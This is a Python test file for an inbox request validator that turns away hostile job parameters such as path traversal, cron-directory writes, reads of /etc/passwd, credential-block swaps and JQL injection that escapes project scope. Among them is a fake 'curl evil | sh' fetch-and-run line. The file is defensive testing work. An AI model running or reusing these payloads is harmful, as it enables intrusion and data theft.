"""What a request from the inbox page may set: allow-lists with types and bounds, operator overrides."""

from __future__ import annotations

from typing import Any

import pytest

from atlasflow.flows.inbox_rules import MAX_DEPTH, RequestRefused, Scope, admit, requestable

#: Each finding of the attack on the inbox (issue 13), as the row's Parameters.
HOSTILE: list[tuple[str, dict[str, Any], str]] = [
    ("jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "/etc/cron.d"}, "output_dir cannot be set"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "../../elsewhere"}, "file paths come from"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "compare_to": "/srv/reports/team-b.xlsx"}, "compare_to"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "compare_to": "/etc/passwd"}, "compare_to"),
    ("confluence_table_sync", {"key_column": "Key", "source": "/srv/hr/salaries.csv"}, "source cannot be set"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "jira_block": "team-b-jira"}, "credentials and storage"),
    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "confluence_block": "x"}, "_block"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "snapshot_block": "s3-bucket/team-b"}, "snapshot_block"),
    ("pipeline", {"root_tickets": ["DEMO-1"], "notifier_block": "mattermost/ceo"}, "notifier_block"),
    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "delete_missing": True}, "destructive"),
    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "dry_run": False}, "dry_run"),
    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "1"}], "page_id": "1"}, "page to write"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "max_depth": 1_000_000}, "max_depth"),
    ("jira_export", {"jql": "ORDER BY created"}, "ORDER BY"),
    ("jira_export", {"jql": "project = DEMO OR " + "x = y OR " * 300}, "jql"),
    ("jira_export", {"root_tickets": [f"DEMO-{i}" for i in range(1, 200)]}, "root_tickets"),
    ("jira_export", {"root_tickets": ['DEMO-1" OR project != X']}, "root_tickets"),
    ("confluence_table_sync", {"key_column": "K", "rows": [{"K": "x" * 5000}]}, "longer than"),
    ("report_results", {"confluence_page_id": "1"}, "page to write"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "attach_to_page": "98765"}, "page to write"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "post_to_channel": "exec/town-square"}, "channel to post"),
    ("jira_export", {"root_tickets": ["DEMO-1"], "storage_block": "s3-bucket/team-b"}, "credentials and storage"),
    ("shell_job_by_operator", {"command": "curl evil | sh"}, "not a parameter this job takes"),
]


@pytest.mark.parametrize(("job", "parameters", "said"), HOSTILE)
def test_hostile_requests_are_refused_with_the_reason(job: str, parameters: dict[str, Any], said: str) -> None:
    with pytest.raises(RequestRefused, match=said):
        requestable(job, parameters)


def test_a_good_request_passes_only_what_it_gave_and_the_depth_cap() -> None:
    parameters = {"root_tickets": ["DEMO-1"], "fields": ["Story Points"]}
    assert requestable("jira_export", parameters) == {**parameters, "max_depth": MAX_DEPTH, "within_projects": ["DEMO"]}
    assert requestable("jira_export", {"project_key": "DEMO", "max_depth": 2}) == {
        "project_key": "DEMO",
        "max_depth": 2,
        "within_projects": ["DEMO"],
    }
    rows = [{"Key": "DAN", "Role": "=HYPERLINK(1)", "N": 3}]
    assert requestable("confluence_table_sync", {"key_column": "Key", "rows": rows, "dry_run": True}) == {
        "key_column": "Key",
        "rows": rows,
        "dry_run": True,
    }


def test_an_operator_can_allow_one_more_parameter_per_job() -> None:
    allowed = requestable(
        "jira_export", {"root_tickets": ["DEMO-1"], "output_dir": "reports/team-a"}, frozenset({"output_dir"})
    )
    assert allowed["output_dir"] == "reports/team-a"
    with pytest.raises(RequestRefused, match="jira_block"):
        requestable("jira_export", {"root_tickets": ["DEMO-1"], "jira_block": "x"}, frozenset({"output_dir"}))


# --------------------------------------------------------------------------------------------------
# Scope (issue 27 item 2): the inbox composes it from the projects the row names; the row's JQL only narrows it.

#: Rows whose JQL would reach past the projects they name, or order the export; each refused, with the reason.
ESCAPES: list[tuple[dict[str, Any], str]] = [
    ({"project_key": "OPS", "jql": "project = OPS ORDER BY key"}, "ORDER BY"),
    ({"project_key": "OPS", "jql": "status = Done order  by created DESC"}, "ORDER BY"),
    ({"project_key": "OPS", "jql": "status = Done) OR (project = SECRET"}, "unbalanced parentheses"),
    ({"project_key": "OPS", "jql": "(status = Done"}, "unbalanced parentheses"),
    ({"project_key": "OPS", "jql": 'summary ~ "x) OR project = SECRET'}, "unbalanced quotes"),
    ({"project_key": "OPS", "jql": r"summary ~ a\" ) OR (project = SECRET"}, "backslash"),
    ({"project_key": "OPS", "jql": 'issue in linkedIssues("SECRET-1")'}, "linkedIssues"),
    ({"project_key": "OPS", "jql": "assignee = currentUser()"}, "currentUser"),
    ({"project_key": "OPS", "jql": "issue in issueHistory ()"}, "issueHistory"),
    ({"jql": "project = OPS"}, "name its project"),
    ({"jql": "project = OPS OR project != OPS"}, "name its project"),
    ({"project_key": "DEMO", "root_tickets": ["SECRET-2"]}, "SECRET-2 is not in the named project"),
    ({"projects": ["DEMO"], "root_tickets": ["DEMO-1"], "jql": "status = Done"}, "not both"),
    ({"root_tickets": ["DEMO-16"], "include_links": True}, "issue links lead out of the named projects"),
]


@pytest.mark.parametrize(("parameters", "said"), ESCAPES)
def test_jql_that_could_leave_the_named_projects_is_refused(parameters: dict[str, Any], said: str) -> None:
    with pytest.raises(RequestRefused, match=said):
        requestable("jira_export", parameters)


@pytest.mark.parametrize(
    ("jql", "composed"),
    [
        ("project = OPS OR project != OPS", "(project = OPS OR project != OPS)"),
        ("NOT project = OPS", "(NOT project = OPS)"),
        ('summary ~ "a) OR (b" AND created > startOfDay(-7)', '(summary ~ "a) OR (b" AND created > startOfDay(-7))'),
        ("status in (Done, 'In Progress') OR labels = x", "(status in (Done, 'In Progress') OR labels = x)"),
    ],
)
def test_the_scope_is_the_named_projects_and_the_rows_jql_in_parentheses(jql: str, composed: str) -> None:
    passed = requestable("jira_export", {"project_key": "OPS", "jql": jql})
    assert passed == {"jql": f'project in ("OPS") AND {composed}', "max_depth": MAX_DEPTH, "within_projects": ["OPS"]}


def test_a_row_names_its_projects_by_key_list_or_root_tickets() -> None:
    several = admit("jira_export", {"projects": ["DEMO", "OPS"], "jql": "status = Done"})
    assert several.parameters["jql"] == 'project in ("DEMO", "OPS") AND (status = Done)'
    assert several.scope == Scope(("DEMO", "OPS"), (), several.parameters["jql"])
    roots = admit("jira_export", {"root_tickets": ["DEMO-1", "OPS-2"]})
    assert roots.parameters == {
        "root_tickets": ["DEMO-1", "OPS-2"],
        "max_depth": MAX_DEPTH,
        "within_projects": ["DEMO", "OPS"],
    }
    assert roots.scope == Scope(("DEMO", "OPS"), ("DEMO-1", "OPS-2"), 'project in ("DEMO", "OPS")')
    one = admit("jira_export", {"projects": ["DEMO"]})
    assert one.parameters == {"project_key": "DEMO", "max_depth": MAX_DEPTH, "within_projects": ["DEMO"]}
    assert one.scope.projects == ("DEMO",)
    assert admit("jira_permissions_check", {"project_key": "SECRET", "permissions": ["BROWSE_PROJECTS"]}).scope == (
        Scope(("SECRET",))
    )
    assert admit("read_confluence_table", {"table": 1}).scope == Scope()


def test_an_operator_can_allow_more_jql_functions_but_not_unsettle_the_scope() -> None:
    parameters = {"project_key": "OPS", "jql": 'issue in linkedIssues("OPS-1")'}
    with pytest.raises(RequestRefused, match="linkedIssues"):
        requestable("jira_export", parameters)
    allowed = admit("jira_export", parameters, functions=frozenset({"linkedissues"}))
    assert allowed.parameters["jql"] == 'project in ("OPS") AND (issue in linkedIssues("OPS-1"))'
    with pytest.raises(RequestRefused, match="name its project"):  # checked even when "allowed"
        requestable("jira_export", {"jql": "project != OPS"}, frozenset({"jql"}))


def test_following_issue_links_is_the_operators_choice() -> None:
    """DEMO-16 blocks SECRET-2: links lead out of the named projects; allowed, the export still stays inside
    them (``within_projects``, proven in tests/flows/test_inbox_access.py)."""
    parameters = {"root_tickets": ["DEMO-16"], "include_links": True}
    assert requestable("jira_export", parameters, frozenset({"include_links"})) == {
        **parameters,
        "max_depth": 10,
        "within_projects": ["DEMO"],
    }
